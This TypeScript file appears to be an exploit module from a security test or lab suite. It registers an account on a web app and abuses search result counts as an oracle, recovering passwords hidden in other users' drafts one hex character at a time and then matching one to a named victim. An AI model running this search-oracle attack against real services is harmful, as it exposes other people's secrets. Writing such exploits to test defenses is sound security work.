import { randomUUID } from 'node:crypto';
import { exploit } from '#attack';

/**
 * Finds out which passwords there are, from their ends, which are followed by the same words in all drafts, and then whose they are. With
 * `fetch`.
 */
export default exploit(async ({ target: { url }, victim }) => {
  const body = JSON.stringify({ email: `${randomUUID()}@example.net` });
  const account = await fetch(`${url}/accounts`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body,
  });
  const { key } = (await account.json()) as { key: string };
  const total = async (words: string): Promise<number> => {
    const response = await fetch(`${url}/posts?q=${encodeURIComponent(words)}`, { headers: { 'x-account-key': key } });
    return ((await response.json()) as { total: number }).total;
  };

  let endings = [''];
  for (let length = 0; length < 12; length++) {
    const longer: string[] = [];
    for (const ending of endings)
      for (const digit of '0123456789abcdef')
        if ((await total(`${digit}${ending} (don't publish)`)) > 0) longer.push(digit + ending);
    endings = longer;
  }
  for (const password of endings) if ((await total(`${victim}: ${password}`)) > 0) return password;
  return undefined;
});
